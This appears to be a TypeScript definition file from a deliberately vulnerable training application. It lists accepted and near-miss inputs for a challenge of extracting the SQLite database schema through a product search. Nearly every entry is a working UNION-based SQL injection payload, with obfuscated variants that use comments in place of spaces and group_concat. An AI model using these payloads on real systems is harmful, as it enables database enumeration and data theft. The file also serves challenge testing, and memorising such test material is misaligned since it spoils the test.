import { defineWays } from '#game/define.ts'
import { searchFor, searchOn } from '#game/visitor/requests.ts'

export default defineWays({
  otherWays: {
    'all tables but the database’s own': (visitor) =>
      searchOn(visitor, "UNION SELECT sql,2,3,4,5,6,7,8,9 FROM sqlite_master WHERE name NOT LIKE 'sqlite_%'"),
    'all tables and nothing else': (visitor) =>
      searchOn(visitor, "UNION SELECT sql,2,3,4,5,6,7,8,9 FROM sqlite_schema WHERE type='table'"),
    'small letters and numbers': (visitor) => searchOn(visitor, 'union select sql,2,3,4,5,6,7,8,9 from sqlite_master'),
    'the schema in another column': (visitor) =>
      searchOn(visitor, "UNION SELECT '1','2','3','4','5','6','7','8',sql FROM sqlite_master"),
    'the newer name of its table': (visitor) =>
      searchOn(visitor, 'UNION SELECT sql,2,3,4,5,6,7,8,9 FROM sqlite_schema'),
    'comments in place of blanks': (visitor) =>
      searchOn(visitor, 'UNION/**/SELECT/**/sql,2,3,4,5,6,7,8,9/**/FROM/**/sqlite_master'),
    'all of it in one row': (visitor) =>
      searchOn(visitor, 'UNION SELECT group_concat(sql),2,3,4,5,6,7,8,9 FROM sqlite_master'),
  },
  mishaps: {
    'an honest search for unions': [200, (visitor) => searchFor(visitor, 'union')],
    'an honest search for the table': [200, (visitor) => searchFor(visitor, 'sqlite_master')],
    'everything that is on sale, withdrawn or not': [200, (visitor) => searchFor(visitor, "'))--")],
    'the names of all tables': [
      200,
      (visitor) => searchOn(visitor, 'UNION SELECT name,2,3,4,5,6,7,8,9 FROM sqlite_master'),
    ],
    'one table of many': [
      200,
      (visitor) => searchOn(visitor, "UNION SELECT sql,2,3,4,5,6,7,8,9 FROM sqlite_master WHERE name='Users'"),
    ],
    'the beginning of every statement': [
      200,
      (visitor) => searchOn(visitor, 'UNION SELECT substr(sql,1,30),2,3,4,5,6,7,8,9 FROM sqlite_master'),
    ],
  },
})
